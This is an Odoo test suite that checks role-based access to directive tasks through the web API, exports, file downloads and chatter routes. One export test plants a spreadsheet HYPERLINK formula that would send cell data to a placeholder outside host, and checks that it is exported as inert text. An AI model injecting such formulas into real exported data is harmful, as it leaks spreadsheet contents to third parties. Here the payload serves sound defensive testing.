import csv
import io
import json
from datetime import datetime, timedelta

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, JsonRpcException, tagged
from odoo.tools import mute_logger

from ...tools.recipient import Recipient
from ..doors import DoorsCase

SECRET = "The secret of department A"


class RpcCase(DoorsCase, HttpCase):
    """Answers to another program or a browser, logged in as one user."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.task = cls.make_rich_task(name=SECRET, coordinators=cls.commune_x)
        cls.directive = cls.task.directive_id
        people = [Recipient(cls.head_a.partner_id.id, cls.head_a.id, cls.agency_a.id)]
        cls.env["directive.notice"]._post(
            "task_instructed", cls.task, {cls.task.id: people}, wants_ack=True
        )
        cls.insiders = cls.user_a, cls.user_x, cls.office_user, cls.leader_user
        cls.outsiders = cls.user_b, cls.user_below, cls.admin_user, cls.outside_user

    def setUp(self):
        super().setUp()
        # These tests expect refusals; they must not fill the log.
        self.enterContext(mute_logger("odoo.http", "odoo.addons.web.controllers.export"))

    def log_in(self, user):
        self.authenticate(user and user.login, user and user.login)

    def call(self, model, method, *args, **kwargs):
        params = {"model": model, "method": method, "args": list(args), "kwargs": kwargs}
        return self.make_jsonrpc_request(f"/web/dataset/call_kw/{model}/{method}", params)

    def refused(self, name="odoo.exceptions"):
        return self.assertRaisesRegex(JsonRpcException, name)


@tagged("post_install", "-at_install")
class TestAccessRpc(RpcCase):
    """The web API shows and does only what the role permits."""

    def everything_asked(self):
        """Return the API's answers about the task as one text."""
        domain = [["id", "=", self.task.id]]
        mine = [["task_id", "=", self.task.id]]
        asked = [["res_model", "=", "directive.task"], ["res_id", "=", self.task.id]]
        spec = {"name": {}, "display_name": {}}
        questions = [
            ("directive.task", "search_read", [domain], {"fields": ["name"]}),
            ("directive.task", "read", [self.task.ids, ["name"]], {}),
            ("directive.task", "web_search_read", [domain, spec], {}),
            ("directive.task", "web_read", [self.task.ids, spec], {}),
            ("directive.task", "name_search", ["secret"], {}),
            ("directive.task", "formatted_read_group", [domain, ["name"], ["__count"]], {}),
            ("directive.task", "web_read_group", [domain, ["name"]], {}),
            ("directive.task", "export_data", [self.task.ids, ["name"]], {}),
            ("directive.task", "copy_data", [self.task.ids], {}),
            ("directive.statistics", "search_read", [mine], {"fields": ["name", "task_id"]}),
            ("directive.statistics", "formatted_read_group", [mine, ["name"], ["task_count:sum"]], {}),
            ("directive.task.progress", "search_read", [mine], {"fields": ["task_id"]}),
            ("directive.task.request", "search_read", [mine], {"fields": ["task_id"]}),
            ("directive.transition", "search_read", [mine], {"fields": ["task_id"]}),
            ("directive.notice.acknowledgement", "search_read", [asked], {"fields": ["subject"]}),
            ("directive.directive", "web_read", [self.directive.ids, {"task_ids": {"fields": spec}}], {}),
            ("mail.message", "search_read", [[["body", "ilike", "A word"]]], {"fields": ["record_name"]}),
            ("mail.activity", "search_read", [[["res_id", "=", self.task.id]]], {"fields": ["res_name"]}),
        ]  # fmt: skip
        return {
            f"{model}.{method}": self.answer(model, method, args, kwargs)
            for model, method, args, kwargs in questions
        }

    def answer(self, model, method, args, kwargs):
        try:
            return json.dumps(self.call(model, method, *args, **kwargs))
        except JsonRpcException as error:
            return str(error)

    def test_insiders_get_an_answer_to_every_question(self):
        self.log_in(self.user_a)
        for question, answer in self.everything_asked().items():
            with self.subTest(question=question):
                self.assertIn(SECRET, answer)

    def test_outsiders_get_no_answer_to_any(self):
        for user in self.outsiders:
            self.log_in(user)
            for question, answer in self.everything_asked().items():
                with self.subTest(user=user.login, question=question):
                    self.assertNotIn("secret", answer)

    def test_a_form_half_filled_tells_nothing_of_another_s_task(self):
        names = {"task_id": {"fields": {"display_name": {}}}}
        more = {
            "directive.task.request": ("agency_id", "date_deadline"),
            "directive.task.progress": ("directive_id", "agency_id"),
        }
        for user, expected in ((self.user_a, True), (self.user_b, False)):
            self.log_in(user)
            for model, fields in more.items():
                spec = {name: {"fields": {"display_name": {}}} for name in fields if "_id" in name}
                spec |= names | {name: {} for name in fields if "_id" not in name}
                args = [[], {"task_id": self.task.id}, ["task_id"], spec]
                answer = self.answer(model, "onchange", args, {})
                with self.subTest(user=user.login, model=model):
                    self.assertEqual("Department A" in answer or "128/" in answer, expected)

    def test_without_a_session_there_is_no_answer(self):
        self.log_in(None)
        for question, answer in self.everything_asked().items():
            with self.subTest(question=question):
                self.assertIn("SessionExpired", answer)

    def test_private_methods_are_not_callable(self):
        self.log_in(self.office_user)
        for model, method, args in (
            ("directive.task", "_restore_history", [self.task.ids, {"state": "done"}]),
            ("directive.task", "_apply_transition", [self.task.ids, "accept"]),
            ("directive.task", "_grant_extension", [self.task.ids, "2099-12-31", "x"]),
            ("directive.task", "_delegate", [self.task.ids, self.agency_below.ids]),
            ("directive.directive", "_set_state", [self.directive.ids, "completed"]),
            ("directive.task.progress", "_review", [self.task.progress_ids.ids, "accepted"]),
            ("directive.task.request", "_decide", [self.task.request_ids.ids, "approved", ""]),
            ("directive.notice", "_post", ["task_assigned", [], {}]),
            ("directive.reminder.rule", "_cron_remind", []),
            ("directive.notice.delivery", "_cron_send", []),
            ("directive.notice", "_repeat", ["key", [], []]),
            ("directive.notice.acknowledgement", "_cron_climb", []),
            ("directive.notice.acknowledgement", "_acknowledge", [[], "Forged"]),
            ("directive.notice.delivery", "_answer", [[], "received"]),
            ("directive.notice.delivery", "_answer_url", [[]]),
            ("directive.notice.link", "_find", ["0" * 20]),
            ("directive.notice.answer", "_add", [{}]),
            ("res.users", "_directive_agencies", [self.user_b.ids]),
        ):
            with self.subTest(model=model, method=method), self.refused("AccessError"):
                self.call(model, method, *args)

    def test_a_state_is_not_written_whatever_the_context_claims(self):
        for user in (
            self.office_user,
            self.leader_user,
            self.user_a,
            self.env.ref("base.user_admin"),
        ):
            self.log_in(user)
            for context in ({}, {"directive_workflow": True}, {"directive_workflow": {}}):
                for method in ("write", "web_save"):
                    extra = {"specification": {}} if method == "web_save" else {}
                    with self.subTest(user=user.login, method=method), self.refused():
                        self.call(
                            "directive.task",
                            method,
                            self.task.ids,
                            {"state": "done"},
                            context=context,
                            **extra,
                        )
        self.task.invalidate_recordset()
        self.assertEqual(self.task.state, "in_progress")

    def test_defaults_of_the_context_make_no_state(self):
        self.log_in(self.office_user)
        vals = {"name": "New", "directive_id": self.directive.id}
        context = {"default_state": "done", "default_date_done": "2020-01-01"}
        created = self.call("directive.task", "create", vals, context=context)
        task = self.task.browse(created)
        self.assertEqual((task.state, task.date_done), ("draft", False))

    def test_buttons_obey_the_role(self):
        self.log_in(self.user_a)
        for verb in ("assign", "accept", "return", "suspend", "revoke", "close"):
            args = [self.task.ids] if verb in ("assign", "accept") else [self.task.ids, "Note"]
            with self.subTest(verb=verb), self.refused("UserError"):
                self.call("directive.task", f"action_{verb}", *args)
        self.log_in(self.user_b)
        with self.refused("AccessError"):
            self.call("directive.task", "action_receive", self.task.ids)

    def test_the_agency_s_own_buttons_work(self):
        task = self.make_task()
        self.log_in(self.user_a)
        self.assertTrue(self.call("directive.task", "action_receive", task.ids))
        task.invalidate_recordset()
        self.assertEqual(task.state, "in_progress")

    def test_a_membership_that_ends_closes_the_next_call(self):
        self.log_in(self.user_a)
        self.assertTrue(self.call("directive.task", "search_count", [["id", "=", self.task.id]]))
        posts = self.env["directive.agency.member"].search([("user_id", "=", self.user_a.id)])
        posts.date_to = "2020-01-01"
        self.assertFalse(self.call("directive.task", "search_count", [["id", "=", self.task.id]]))


@tagged("post_install", "-at_install")
class TestAccessFiles(RpcCase):
    """Exports and downloads contain only data that the role may see."""

    def export(self, kind, model="directive.task", fields=("name",), groupby=()):
        data = {
            "model": model,
            "ids": False,
            "domain": [],
            "groupby": groupby,
            "import_compat": False,
            "fields": [{"name": name, "label": name} for name in fields],
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        return self.url_open(f"/web/export/{kind}", data=form)

    def exported_cells(self, kind, **options):
        response = self.export(kind, **options)
        if not response.ok:
            return []
        if kind == "csv":
            return [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        sheet = load_workbook(io.BytesIO(response.content)).active
        return [cell for row in sheet.iter_rows(values_only=True) for cell in row]

    def test_an_export_holds_the_tasks_of_one_s_own_agency_alone(self):
        self.make_task(lead=self.agency_b, name="For B")
        for kind in ("csv", "xlsx"):
            for user, seen, unseen in (
                (self.user_a, SECRET, "For B"),
                (self.user_b, "For B", SECRET),
            ):
                self.log_in(user)
                for model in ("directive.task", "directive.statistics"):
                    cells = self.exported_cells(kind, model=model)
                    with self.subTest(kind=kind, user=user.login, model=model):
                        self.assertIn(seen, cells)
                        self.assertNotIn(unseen, cells)

    def test_an_export_reaches_no_further_through_relations(self):
        self.make_task(lead=self.agency_b, name="For B", directive_id=self.directive.id)
        self.log_in(self.user_a)
        cells = self.exported_cells("csv", fields=("name", "directive_id/task_ids/name"))
        self.assertIn(SECRET, cells)
        self.assertNotIn("For B", cells)

    def test_a_formula_typed_as_a_name_is_exported_as_text(self):
        formula = '=HYPERLINK("https://example.com/?"&A1,"Open")'
        self.make_task(name=formula, product=formula)
        self.log_in(self.office_user)
        for groupby in ((), ("product",)):
            cells = self.exported_cells("xlsx", groupby=groupby)
            with self.subTest(groupby=groupby):
                self.assertIn(f"'{formula}", cells)
                self.assertNotIn(formula, cells)

    def test_an_administrator_exports_nothing(self):
        self.log_in(self.admin_user)
        for model in ("directive.task", "directive.statistics", "directive.directive"):
            self.assertNotIn(SECRET, self.exported_cells("csv", model=model))

    def test_files_are_downloaded_by_insiders_alone(self):
        files = self.task.progress_ids.attachment_ids
        for record in (self.task, self.directive):
            files |= self.make_attachment(self.env.user, "paper.txt", record)
        for user, expected in [
            *((user, True) for user in self.insiders),
            *((user, False) for user in self.outsiders),
            (None, False),
        ]:
            self.log_in(user)
            for file in files:
                for url in (f"/web/content/{file.id}", f"/web/content/ir.attachment/{file.id}/raw"):
                    with self.subTest(user=user and user.login, file=file.name, url=url):
                        self.assertEqual(self.url_open(url).content == b"content", expected)


@tagged("post_install", "-at_install")
class TestAccessMailRoutes(RpcCase):
    """The routes of the chatter obey the visibility of its task or directive."""

    def threads(self):
        return [
            {"thread_model": one._name, "thread_id": one.id} for one in (self.task, self.directive)
        ]

    def fetch(self, thread):
        """Return the messages of ``thread`` that its route gives out."""
        own = self.env[thread["thread_model"]].browse(thread["thread_id"]).message_ids
        got = self.make_jsonrpc_request("/mail/thread/messages", thread)["messages"]
        return own & own.browse(got)

    def test_messages_are_fetched_by_insiders_alone(self):
        self.directive.message_post(body="A word", message_type="comment")
        for thread in self.threads():
            for users, expected in ((self.insiders, True), (self.outsiders, False)):
                for user in users:
                    self.log_in(user)
                    with self.subTest(user=user.login, **thread):
                        self.assertEqual(bool(self.fetch(thread)), expected)

    def test_messages_are_posted_by_insiders_alone(self):
        post = {"body": "Planted", "message_type": "comment", "subtype_xmlid": "mail.mt_comment"}
        for thread in self.threads():
            self.log_in(self.user_a)
            self.make_jsonrpc_request("/mail/message/post", {**thread, "post_data": post})
            for user in self.outsiders:
                self.log_in(user)
                with self.subTest(user=user.login, **thread), self.assertRaises(JsonRpcException):
                    self.make_jsonrpc_request("/mail/message/post", {**thread, "post_data": post})

    def test_nobody_subscribes_an_outsider(self):
        partners = [user.partner_id.id for user in self.outsiders]
        self.log_in(self.office_user)
        for thread in (self.task, self.directive):
            params = {"res_model": thread._name, "res_id": thread.id, "partner_ids": partners}
            self.make_jsonrpc_request("/mail/thread/subscribe", params)
            self.assertFalse(set(thread.message_partner_ids.ids) & set(partners))

    def test_an_inbox_forgets_what_its_user_may_no_longer_see(self):
        self.user_a.notification_type = "inbox"
        self.task.with_user(self.office_user).message_post(
            body="A word", message_type="comment", partner_ids=self.user_a.partner_id.ids
        )
        self.log_in(self.user_a)
        self.assertTrue(self.make_jsonrpc_request("/mail/inbox/messages", {})["messages"])
        self.correct(self.task, lead_agency_id=self.agency_b.id)
        self.log_in(self.user_a)
        self.assertFalse(self.make_jsonrpc_request("/mail/inbox/messages", {})["messages"])

    def test_the_data_of_a_thread_hold_no_name_for_an_outsider(self):
        requests = ["activities", "attachments", "followers", "suggestedRecipients"]
        for user, expected in ((self.user_a, True), (self.user_b, False)):
            self.log_in(user)
            params = {**self.threads()[0], "request_list": requests}
            data = self.make_jsonrpc_request(
                "/mail/data", {"fetch_params": [["mail.thread", params]]}
            )
            with self.subTest(user=user.login):
                self.assertEqual("task.txt" in json.dumps(data), expected)


@tagged("post_install", "-at_install")
class TestAccessJson2(RpcCase):
    """The API for other systems, with a key, obeys the same rules."""

    def setUp(self):
        super().setUp()
        rpc = self.env["ir.module.module"].search([("name", "=", "rpc")])
        if rpc.state != "installed":
            self.skipTest("The module rpc, which serves /json/2, is not installed here.")
        self.authenticate(None, None)

    def ask(self, user, method, **arguments):
        """Return status and answer of ``method`` on tasks, asked with a key of ``user``."""
        keys = self.env["res.users.apikeys"].with_user(user)
        key = keys._generate("rpc", "test", datetime.now() + timedelta(days=1))
        response = self.url_open(
            f"/json/2/directive.task/{method}",
            json=arguments,
            headers={"Authorization": f"bearer {key}"},
        )
        return response.status_code, response.text

    def test_insiders_read_and_outsiders_do_not(self):
        domain = [["id", "=", self.task.id]]
        for users, expected in ((self.insiders, True), (self.outsiders, False)):
            for user in users:
                _status, answer = self.ask(user, "search_read", domain=domain, fields=["name"])
                with self.subTest(user=user.login):
                    self.assertEqual(SECRET in answer, expected)

    def test_no_state_is_written_and_no_private_method_called(self):
        vals = {"state": "done"}
        for user in (self.office_user, self.user_a):
            for method in ("write", "_restore_history"):
                status, _answer = self.ask(user, method, ids=self.task.ids, vals=vals)
                with self.subTest(user=user.login, method=method):
                    self.assertGreaterEqual(status, 400)
        self.task.invalidate_recordset()
        self.assertEqual(self.task.state, "in_progress")

    def test_a_key_is_needed(self):
        response = self.url_open("/json/2/directive.task/search_read", json={"domain": []})
        self.assertEqual(response.status_code, 401)
